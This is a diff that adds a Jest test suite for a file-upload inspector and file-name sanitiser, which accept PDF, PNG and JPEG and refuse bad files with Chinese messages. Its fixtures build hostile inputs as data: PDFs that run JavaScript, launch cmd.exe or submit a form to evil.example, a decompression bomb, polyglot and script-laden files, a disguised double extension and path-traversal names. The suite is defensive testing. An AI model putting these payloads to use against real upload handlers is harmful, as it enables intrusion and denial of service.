@@ -1,0 +1,184 @@
+import { deflateSync, crc32 } from 'node:zlib';
+import { safeFileName } from './file-name';
+import { inspectFile } from './inspect-file';
+
+const PDF = makePdf();
+const PNG = makePng(4, 3);
+const JPEG = makeJpeg(40, 30);
+
+describe('accepted files', () => {
+  it.each<[string, Buffer, string]>([
+    ['营业执照.pdf', PDF, 'application/pdf'],
+    ['现场照片.PNG', PNG, 'image/png'],
+    ['凭证.jpg', JPEG, 'image/jpeg'],
+    ['凭证.jpeg', JPEG, 'image/jpeg'],
+    ['隔行.png', makePng(9, 9, { interlaced: true }), 'image/png'],
+  ])('[UP-05] %s', async (name, bytes, mediaType) => {
+    expect(await inspectFile(name, bytes)).toMatchObject({ ok: true, mediaType });
+  });
+});
+
+describe('refused files', () => {
+  const refused: [string, string, Buffer, RegExp][] = [
+    ['nothing in it', '空.pdf', Buffer.alloc(0), /空的/],
+    ['another extension', '宏.docm', PDF, /仅支持/],
+    ['no extension', '营业执照', PDF, /仅支持/],
+    ['a double extension', '发票.pdf.exe', PDF, /仅支持/],
+    ['an extension turned round by a mark', '发票\u202efdp.exe', PDF, /仅支持/],
+    ['SVG with a script under a picture name', '图.png', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), /不是有效的 PNG/],
+    ['SVG under its own name', '图.svg', Buffer.from('<svg/>'), /仅支持/],
+    ['HTML under a PDF name', '页.pdf', Buffer.from('<!doctype html><script>alert(1)</script>'), /不是有效的 PDF/],
+    ['a program under a PDF name', '软件.pdf', Buffer.from('MZ\u0090\u0000'), /不是有效的 PDF/],
+    ['a picture under a PDF name', '照片.pdf', PNG, /内容是 PNG/],
+    ['a PDF under a picture name', '保函.png', PDF, /内容是 PDF/],
+    ['bytes before the header', '前.pdf', Buffer.concat([Buffer.from('x'), PDF]), /不是有效的 PDF/],
+    ['half a PDF', '半.pdf', PDF.subarray(0, PDF.length >> 1), /损坏|不完整/],
+    ['a header and no more', '头.pdf', Buffer.from('%PDF-1.7\n%%EOF\nstartxref'), /损坏|末尾/],
+    ['no cross-reference table', '乱.pdf', Buffer.from('%PDF-1.7\nstartxref\n99999\n%%EOF'), /损坏/],
+    ['PDF with a script', '脚本.pdf', makePdf('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'), /脚本/],
+    ['PDF with a script under an escaped name', '脚本.pdf', makePdf('/OpenAction << /S /J#61vaScript /J#53 (1) >>'), /脚本/],
+    ['PDF that starts a program', '启动.pdf', makePdf('/OpenAction << /S /Launch /F (cmd.exe) >>'), /可执行/],
+    ['PDF with embedded files', '附件.pdf', makePdf('/Names << /EmbeddedFiles << /Names [] >> >>'), /嵌入文件/],
+    ['PDF that posts a form', '提交.pdf', makePdf('/OpenAction << /S /SubmitForm /F (https://evil.example) >>'), /动作/],
+    ['PDF with a password', '加密.pdf', makePdf('', '/Encrypt << /Filter /Standard /V 1 /R 2 /O (01234567890123456789012345678901) /U (01234567890123456789012345678901) /P -4 >> /ID [(a) (b)]'), /加密/],
+    ['PDF without pages', '无页.pdf', makePdf('', '', 0), /没有任何页面/],
+    ['PDF with HTML after its end', '尾.pdf', Buffer.concat([PDF, Buffer.from('<html><script>1</script>')]), /末尾|网页代码/],
+    ['PDF with HTML at its beginning', '首.pdf', Buffer.from(PDF.toString('latin1').replace('%PDF-1.7\n', '%PDF-1.7\n%<html><body onload=x>\n'), 'latin1'), /网页代码/],
+    ['PDF that is a zip too', '压缩.pdf', withZipEnd(PDF), /压缩包|末尾/],
+    ['PDF with an object stream that inflates to 100 MB', '炸弹.pdf', makePdfBomb(), /异常庞大/],
+    ['half a PNG', '半.png', PNG.subarray(0, PNG.length - 8), /损坏/],
+    ['PNG with a wrong checksum', '错.png', flip(PNG, 20), /损坏/],
+    ['PNG with too few pixels', '少.png', makePng(40, 30, { rows: 3 }), /损坏/],
+    ['PNG with too many pixels', '多.png', makePng(4, 3, { rows: 5000 }), /损坏/],
+    ['PNG that claims 50000 by 50000', '炸弹.png', makePng(50_000, 50_000, { rows: 1 }), /过大/],
+    ['PNG without size', '零.png', makePng(0, 3), /尺寸/],
+    ['PNG with HTML after its end', '尾.png', Buffer.concat([PNG, Buffer.from('<script>alert(1)</script>')]), /末尾/],
+    ['PNG with a zip after its end', '尾.png', withZipEnd(PNG), /压缩包/],
+    ['half a JPEG', '半.jpg', JPEG.subarray(0, JPEG.length - 6), /损坏/],
+    ['JPEG with HTML after its end', '尾.jpg', Buffer.concat([JPEG, Buffer.from('<script>alert(1)</script>')]), /末尾/],
+    ['JPEG that claims 65535 by 65535', '炸弹.jpg', makeJpeg(65_535, 65_535), /过大/],
+    ['JPEG of a header alone', '头.jpg', Buffer.from([0xff, 0xd8, 0xff, 0xd9]), /损坏/],
+    ['JPEG with a segment that leads outside', '出界.jpg', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0xff, 0xff, 1, 2]), /损坏/],
+  ];
+
+  it.each(refused)('[UP-05] %s', async (_, name, bytes, message) => {
+    const inspection = await inspectFile(name, bytes);
+    expect(inspection).toEqual({ ok: false, message: expect.stringMatching(message) });
+  });
+
+  it('[UP-05] every refusal says in Chinese what to do', async () => {
+    for (const [, name, bytes] of refused) {
+      const inspection = await inspectFile(name, bytes);
+      expect(inspection.ok ? '' : inspection.message).toMatch(/请/);
+    }
+  });
+
+  it('[UP-05] garbage gets a verdict, never an exception', async () => {
+    for (let seed = 1; seed <= 60; seed += 1) {
+      const original = [PDF, PNG, JPEG][seed % 3] ?? PDF;
+      const bytes = flip(flip(original, (seed * 7919) % original.length), (seed * 104_729) % original.length);
+      const inspection = await inspectFile(['a.pdf', 'a.png', 'a.jpg'][seed % 3] ?? '', bytes);
+      expect(typeof inspection.ok).toBe('boolean');
+    }
+  });
+});
+
+describe('names', () => {
+  it.each([
+    ['../../etc/passwd.pdf', 'passwd.pdf'],
+    ['..\\..\\windows\\系统.PDF', '系统.pdf'],
+    ['C:\\fakepath\\保函.pdf', '保函.pdf'],
+    ['发票\u202efdp.exe', '发票fdp.exe'],
+    ['a\u0000b\r\n.pdf', 'ab.pdf'],
+    ['零\u200b宽\ufeff.pdf', '零宽.pdf'],
+    ['<img src=x onerror=1>.png', '_img src=x onerror=1_.png'],
+    ['CON.pdf', '_CON.pdf'],
+    ['...隐藏.pdf', '隐藏.pdf'],
+    ['.pdf', 'pdf'],
+    ['', '文件'],
+  ])('[UP-05] %j becomes %j', (raw, safe) => {
+    expect(safeFileName(raw).name).toBe(safe);
+  });
+
+  it('[UP-05] stay short and keep their extension', () => {
+    const { name } = safeFileName(`${'长'.repeat(500)}.pdf`);
+    expect([...name].length).toBeLessThanOrEqual(120);
+    expect(name.endsWith('.pdf')).toBe(true);
+  });
+});
+
+function makePdf(catalogExtra = '', trailerExtra = '', pages = 1): Buffer {
+  const kids = pages > 0 ? '3 0 R' : '';
+  const objects = [
+    `<< /Type /Catalog /Pages 2 0 R ${catalogExtra} >>`,
+    `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`,
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
+  ];
+  let text = '%PDF-1.7\n';
+  const offsets = objects.map((object, index) => {
+    const offset = text.length;
+    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
+    return offset;
+  });
+  const start = text.length;
+  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')}`;
+  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailerExtra} >>\nstartxref\n${start}\n%%EOF\n`;
+  return Buffer.from(text, 'latin1');
+}
+
+function makePdfBomb(): Buffer {
+  const packed = deflateSync(Buffer.alloc(100 * 1024 * 1024));
+  const [head, tail] = PDF.toString('latin1').split('xref\n0 4');
+  const object = `9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`;
+  return Buffer.concat([Buffer.from((head ?? '') + object, 'latin1'), packed, Buffer.from(`\nendstream\nendobj\nxref\n0 4${tail ?? ''}`, 'latin1')]);
+}
+
+function makePng(width: number, height: number, { rows = height, interlaced = false } = {}): Buffer {
+  const header = Buffer.alloc(13);
+  header.writeUInt32BE(width, 0);
+  header.writeUInt32BE(height, 4);
+  header.set([8, 2, 0, 0, interlaced ? 1 : 0], 8);
+  const size = interlaced ? 9 * 9 * 3 + 19 : rows * (1 + width * 3);
+  return Buffer.concat([
+    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
+    chunk('IHDR', header),
+    chunk('IDAT', deflateSync(Buffer.alloc(size))),
+    chunk('IEND', Buffer.alloc(0)),
+  ]);
+}
+
+function chunk(type: string, data: Buffer): Buffer {
+  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
+  const length = Buffer.alloc(4);
+  length.writeUInt32BE(data.length);
+  const sum = Buffer.alloc(4);
+  sum.writeUInt32BE(crc32(body));
+  return Buffer.concat([length, body, sum]);
+}
+
+function makeJpeg(width: number, height: number): Buffer {
+  const frame = [8, height >> 8, height & 255, width >> 8, width & 255, 1, 1, 0x11, 0];
+  return Buffer.concat([
+    Buffer.from([0xff, 0xd8]),
+    segment(0xe0, [0x4a, 0x46, 0x49, 0x46, 0, 1, 1, 0, 0, 1, 0, 1, 0, 0]),
+    segment(0xdb, [0, ...Array.from({ length: 64 }, () => 1)]),
+    segment(0xc0, frame),
+    segment(0xc4, [0, 1, ...Array.from({ length: 15 }, () => 0), 0]),
+    segment(0xda, [1, 1, 0, 0, 63, 0]),
+    Buffer.from([0x12, 0x34, 0xff, 0x00, 0x56, 0xff, 0xd9]),
+  ]);
+}
+
+function segment(marker: number, data: readonly number[]): Buffer {
+  return Buffer.from([0xff, marker, (data.length + 2) >> 8, (data.length + 2) & 255, ...data]);
+}
+
+function withZipEnd(content: Buffer): Buffer {
+  return Buffer.concat([content, Buffer.from('PK\u0005\u0006', 'latin1'), Buffer.alloc(18)]);
+}
+
+function flip(content: Buffer, at: number): Buffer {
+  const copy = Buffer.from(content);
+  copy[at] = (copy[at] ?? 0) ^ 0x41;
+  return copy;
+}
